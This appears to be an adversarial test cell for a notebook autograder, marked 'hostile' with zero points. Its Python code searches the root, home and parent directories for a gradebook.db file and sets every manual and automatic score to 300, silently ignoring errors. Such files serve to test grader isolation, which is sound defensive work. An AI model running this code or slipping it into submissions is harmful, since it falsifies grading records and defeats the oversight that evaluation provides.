# ---
# kind: hostile
# about: the gradebook is looked for and written
# base: release
# max_points: 0
# ---
# %% before u01_e1_predict

import glob, os, sqlite3

for folder in ("/", os.path.expanduser("~"), *[os.sep.join([".."] * n) for n in range(1, 9)]):
    for path in glob.glob(os.path.join(folder, "**", "gradebook.db"), recursive=False) + [
        os.path.join(folder, "gradebook.db")
    ]:
        try:
            book = sqlite3.connect(path)
            book.execute("update grade set manual_score = 300, auto_score = 300")
            book.commit()
        except Exception:
            pass
